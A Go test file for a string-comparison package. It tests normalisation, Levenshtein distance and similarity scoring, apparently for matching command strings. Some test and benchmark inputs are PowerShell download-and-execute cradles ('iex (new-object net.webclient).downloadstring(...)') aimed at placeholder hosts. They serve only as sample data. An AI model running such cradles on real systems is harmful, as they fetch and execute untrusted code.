package evaluate

import (
	"math"
	"strings"
	"testing"
)

func TestNormalize(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"lower-cases", "IEX Foo", "iex foo"},
		{"collapses white space runs", "a \t\r\n  b", "a b"},
		{"trims", "\n  a  \n", "a"},
		{"empty", " \t ", ""},
		{"non-ascii space", "a\u00a0\u2003b", "a b"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Normalize(tc.in); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestLevenshtein(t *testing.T) {
	for _, tc := range []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"abc", "", 3},
		{"", "abc", 3},
		{"kitten", "sitting", 3},
		{"flaw", "lawn", 2},
		{"same", "same", 0},
		{"abc", "cba", 2},
	} {
		if got := levenshtein(tc.a, tc.b); got != tc.want {
			t.Errorf("levenshtein(%q, %q) = %d, want %d", tc.a, tc.b, got, tc.want)
		}
		if got := levenshtein(tc.b, tc.a); got != tc.want {
			t.Errorf("levenshtein(%q, %q) = %d, want %d (not symmetric)", tc.b, tc.a, got, tc.want)
		}
		if got := Distance(tc.a, tc.b); got != tc.want {
			t.Errorf("Distance(%q, %q) = %d, want %d", tc.a, tc.b, got, tc.want)
		}
	}
}

func TestSimilarity(t *testing.T) {
	for _, tc := range []struct {
		name string
		a, b string
		want float64
	}{
		{"equal", "Write-Host hi", "Write-Host hi", 1},
		{"case and layout are ignored", "IEX  (New-Object Net.WebClient)", "iex (new-object net.webclient)\n", 1},
		{"both empty", "", "  ", 1},
		{"one empty", "abcd", "", 0},
		{"nothing in common", "aaaa", "bbbb", 0},
		{"one edit in four", "abcd", "abce", 0.75},
		{"length difference", "ab", "abcd", 0.5},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Similarity(tc.a, tc.b); math.Abs(got-tc.want) > 1e-9 {
				t.Errorf("got %v, want %v", got, tc.want)
			}
		})
	}
}

func TestBlockDistanceIsAnUpperBound(t *testing.T) {
	a := strings.Repeat("abcdefgh", 50)
	b := strings.Repeat("abcdxfgh", 50)
	exact := levenshtein(a, b)
	if got := blockDistance(a, b); got < exact {
		t.Fatalf("block distance %d below exact %d", got, exact)
	}
}

func BenchmarkLevenshtein(b *testing.B) {
	x := strings.Repeat("iex (new-object net.webclient).downloadstring('http://a/b'); ", 40)
	y := strings.Repeat("iex (new-object net.webclient).downloadstring('http://c/d'); ", 40)
	b.ReportAllocs()
	for b.Loop() {
		levenshtein(x, y)
	}
}
